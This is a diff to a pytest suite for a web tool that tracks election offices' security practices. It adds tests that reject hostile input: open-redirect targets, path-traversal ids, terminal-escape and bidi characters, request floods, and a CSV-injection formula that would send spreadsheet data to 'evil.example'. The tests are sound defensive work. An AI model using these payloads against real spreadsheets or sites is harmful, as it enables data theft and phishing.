@@ -140,14 +140,16 @@ def test_a_redirect_never_leaves_the_office(server):
     for back in ["https://evil.example/", "//evil.example/", "/office/us-xx-c1//evil", "/state", "javascript:x"]:
         status, headers, _ = server.request("POST", "/office/us-xx-c1/status",
                                             body={"action": "backups.l1.1", "status": "done", "back": back})
-        assert status == 303 and headers["location"] == "/office/us-xx-c1/plan", back
+        assert status == 303 and headers["location"] == "/office/us-xx-c1/plan?saved=backups.l1.1", back
 
 
 @pytest.mark.parametrize("path,fields,status,words", [
     ("/office/us-xx-c1/status", {"action": "backups.l1.1", "status": "finished"}, 400, "finished"),
     ("/office/us-xx-c1/status", {"action": "backups.l9.9", "status": "done"}, 404, "backups.l9.9"),
     ("/office/us-xx-c1/status", {"status": "done"}, 400, "'action'"),
-    ("/office/us-xx-c1/status", {"action": "backups.l1.1", "status": "done", "note": "x" * 2001}, 400, "2000"),
+    ("/office/us-xx-c1/status", {"action": "backups.l1.1", "status": "done", "note": "\u00e9" * 801}, 400, "800"),
+    ("/office/us-xx-c1/status", {"action": "backups.l1.1", "status": "done", "note": b"\xff\xfe"}, 400,
+     "note: not UTF-8"),
     ("/office/nobody/status", {"action": "backups.l1.1", "status": "done"}, 404, "nobody"),
     ("/office/us-xx-c1/questionnaire", {"s.l1.1": "maybe"}, 400, "yes or no"),
     ("/office/us-xx-c1/questionnaire", {"s.l9.9": "yes"}, 404, "l9.9"),
@@ -156,6 +158,11 @@ def test_a_redirect_never_leaves_the_office(server):
     ("/offices", {"id": "new", "name": "Bad\nname", "state": "XX", "kind": "county", "maturity": "1"}, 400,
      "one line"),
     ("/offices", {"id": "new", "name": "N", "state": "XX", "kind": "castle", "maturity": "1"}, 400, "castle"),
+    ("/offices", {"id": "a/b", "name": "N", "state": "XX", "kind": "county", "maturity": "1"}, 400, "id: use"),
+    ("/offices", {"id": "..", "name": "N", "state": "XX", "kind": "county", "maturity": "1"}, 400, "id: use"),
+    ("/offices", {"id": "x" * 201, "name": "N", "state": "XX", "kind": "county", "maturity": "1"}, 400, "id: use"),
+    ("/offices", {"id": "new", "name": "N" * 201, "state": "XX", "kind": "county", "maturity": "1"}, 400,
+     "name: at most 200"),
     ("/offices", {"id": "new", "name": "N", "state": "XX", "kind": "county", "maturity": "4"}, 400, "4"),
 ])
 def test_bad_forms_are_refused_and_record_nothing(server, store_path, path, fields, status, words):
@@ -182,9 +189,9 @@ def test_bad_queries_get_a_clear_page(server, path, status):
 
 
 def test_requests_are_bounded(server):
-    status, _, _ = server.request("POST", "/office/us-xx-c1/status", body="note=" + "x" * 70000,
-                                  headers={"Content-Type": "application/x-www-form-urlencoded"})
-    assert status == 413
+    status, _, page = server.request("POST", "/office/us-xx-c1/status", body="note=" + "x" * 70000,
+                                     headers={"Content-Type": "application/x-www-form-urlencoded"})
+    assert status == 413 and "at most 800 characters" in page
     status, _, _ = server.request("GET", "/", headers={"X-Padding": "y" * 10000})
     assert status in (400, 431)
     for raw in [b"GARBAGE\r\n\r\n", b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n",
@@ -197,9 +204,13 @@ def test_requests_are_bounded(server):
     assert status == 200  # still serving
 
 
-def test_the_request_rate_of_one_address_is_bounded(store_path):
+def test_the_request_rate_is_bounded_and_strangers_cannot_use_it_up(store_path):
     s = Server(store_path, "--quiet", "--max-rate", "5")
     try:
+        # Requests without the token are counted apart: a flood of them ...
+        strangers = [s.request("GET", "/guide", bearer=False)[0] for _ in range(12)]
+        assert strangers[:5] == [401] * 5 and 429 in strangers
+        # ... leaves the signed-in program its own share.
         statuses = [s.request("GET", "/guide")[0] for _ in range(12)]
         assert statuses[:5] == [200] * 5 and 429 in statuses
         status, headers, _ = s.request("GET", "/guide")
@@ -246,3 +257,63 @@ def test_create_makes_a_new_store(tmp_path):
         assert s.stop()[0] == 0
     with electsec.Store.open(str(tmp_path / "new.db")) as store:
         assert store.offices() == []
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_shown_as_text(server):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    status, _, _ = server.request("POST", "/offices", body={"id": "csv-inj", "name": formula, "state": "@XX",
+                                                             "kind": "county", "maturity": "1"})
+    assert status == 303
+    _, _, body = server.request("GET", "/state/offices.csv")
+    row = [line for line in body.splitlines() if line.startswith("csv-inj,")][0]
+    assert row.startswith("""csv-inj,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@XX,""")
+
+
+def test_an_unedited_note_stays_exactly_as_it_was(server, store_path):
+    note = "line1\nline2\tTAB \x1b[31m red \u202e"
+    with electsec.Store.open(str(store_path)) as s:
+        s.set_status("us-xx-c6", "backups.l1.1", "in_progress", note=note)
+    _, _, page = server.request("GET", "/office/us-xx-c6/practice/backups")
+    shown = re.search(r'id="a-backups\.l1\.1".*?name="note" maxlength="800" value="([^"]*)"', page, re.S).group(1)
+    shown = html.unescape(shown)
+    assert "\n" not in shown and "\x1b" not in shown  # shown on one line, escapes visible
+    # Only the status changes: the note comes back as shown, and is kept as it was.
+    status, _, _ = server.request("POST", "/office/us-xx-c6/status",
+                                  body={"action": "backups.l1.1", "status": "done", "note": shown})
+    assert status == 303
+    with electsec.Store.open(str(store_path)) as s:
+        kept = s.assessment("us-xx-c6").statuses["backups.l1.1"]
+    assert kept.status == "done" and kept.note == note
+
+
+def test_messages_do_not_show_the_stores_path(server, store_path):
+    status, _, page = server.request("GET", "/office/us-xx-c1/peers?as_of=2026-01-04")
+    assert status == 400 and "the store" in page and str(store_path) not in page
+
+
+def test_an_office_added_twice_at_once_is_added_once(server, store_path):
+    import threading
+    form = {"id": "twice", "name": "Twice", "state": "XX", "kind": "county", "maturity": "1"}
+    results = []
+    threads = [threading.Thread(target=lambda: results.append(server.request("POST", "/offices", body=form)[0]))
+               for _ in range(10)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    assert sorted(results) == [303] + [409] * 9
+    with electsec.Store.open(str(store_path)) as s:
+        assert len([e for e in s.history("twice") if e.subject == "jurisdiction"]) == 1
+
+
+def test_a_questionnaire_with_too_few_answers_keeps_the_level(server, store_path):
+    with electsec.Store.open(str(store_path)) as s:
+        s.set_level("us-xx-c2", 2)
+    status, headers, _ = server.request("POST", "/office/us-xx-c2/questionnaire",
+                                        body={"s.l2.1": "yes", "s.l2.2": "yes", "record_level": "1"})
+    assert status == 303 and headers["location"].endswith("saved=unsure")
+    _, _, page = server.request("GET", headers["location"])
+    assert "level was left as it was" in page
+    with electsec.Store.open(str(store_path)) as s:
+        a = s.assessment("us-xx-c2")
+    assert int(a.maturity) == 2 and a.answers == {"l2.1": True, "l2.2": True}
